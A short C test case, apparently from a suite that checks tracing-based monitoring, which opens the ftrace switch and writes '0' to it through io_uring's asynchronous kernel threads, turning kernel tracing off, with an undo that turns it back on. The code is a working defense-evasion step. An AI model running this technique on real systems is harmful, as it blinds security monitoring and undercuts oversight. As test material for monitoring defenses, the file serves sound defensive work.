// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Opens and writes the switch in io_uring's kernel threads.
 * Success: nearly all legs fall.
 */
#include "ring.h"
#include "switches.h"

static void run(void)
{
	struct ring ring = open_ring();
	struct io_uring_sqe entry = {
		.opcode = IORING_OP_OPENAT,
		.flags = IOSQE_ASYNC,
		.fd = AT_FDCWD,
		.addr = (uint64_t)FTRACE_SWITCH,
		.open_flags = O_WRONLY,
	};
	int file = must("open by io_uring", submit(&ring, &entry));

	entry = (struct io_uring_sqe){ .opcode = IORING_OP_WRITE, .flags = IOSQE_ASYNC, .fd = file, .addr = (uint64_t)"0", .len = 1 };
	must("write by io_uring", submit(&ring, &entry));
}

ATTACK("switches ftrace off through io_uring", .run = run, .undo = switch_ftrace_on);
